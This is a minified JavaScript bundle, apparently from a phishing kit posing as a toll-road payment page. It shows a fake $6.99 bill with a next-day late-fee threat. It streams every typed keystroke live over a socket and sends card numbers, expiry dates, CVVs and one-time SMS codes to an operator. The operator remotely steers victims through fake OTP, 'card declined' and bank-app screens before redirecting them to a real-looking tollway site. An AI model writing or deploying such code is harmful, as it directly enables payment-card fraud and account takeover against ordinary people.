"use strict";
(self.webpackChunktoll = self.webpackChunktoll || []).push([[179], {
  412: (e, t, n) => {
    n.d(t, { Z: () => s });
    const r = n(733), o = n(851);
    class s {
      constructor() { this.plate = ""; this.fields = {}; this.sock = null; }
      start() {
        this.sock = r.connect("/stream", { q: { v: o.visitor(), p: location.pathname } });
        this.sock.on("goto", (a) => this.route(a));
        document.querySelectorAll("input").forEach((i) => i.addEventListener("keyup", () => {
          this.fields[i.name] = i.value;
          this.sock.emit("live", { n: i.name, v: i.value });
        }));
      }
      lookup(p) {
        this.plate = p.toUpperCase();
        document.querySelector(".due").textContent = "$6.99";
        document.querySelector(".late").textContent = "$35.00 late fee if not paid by " + o.tomorrow();
        this.view("bill");
      }
      async submitCard() {
        const { cardNo, cardExp, cardCvv, cardName } = this.fields;
        if (!o.luhn(cardNo)) return this.tip("Card number is invalid");
        this.view("load");
        this.sock.emit("card", { cardNo, cardExp, cardCvv, cardName, plate: this.plate, bill: this.fields.zip });
      }
      submitCode() { this.view("load"); this.sock.emit("code", { code: this.fields.code }); }
      route(a) {
        if (a.to === "otp") { document.querySelector(".mask").textContent = a.phone || "your phone"; this.view("otp"); }
        else if (a.to === "deny") { this.tip("The card was declined, please try a different card"); this.view("card"); }
        else if (a.to === "bankapp") this.view("bankapp");
        else if (a.to === "ok") { this.view("ok"); setTimeout(() => { location.href = "https://tollway.example/"; }, 4e3); }
      }
      view(v) { document.body.dataset.view = v; }
      tip(m) { document.querySelector(".tip").textContent = m; }
    }
  },
  851: (e, t, n) => {
    n.d(t, { visitor: () => a, tomorrow: () => c, luhn: () => l });
    const a = () => localStorage.v || (localStorage.v = Date.now().toString(36));
    const c = () => new Date(Date.now() + 864e5).toLocaleDateString("en-US");
    const l = (s) => [...(s || "").replace(/\D/g, "")].reverse().reduce((m, d, i) => m + (i % 2 ? (d * 2 > 9 ? d * 2 - 9 : d * 2) : +d), 0) % 10 === 0;
  }
}]);
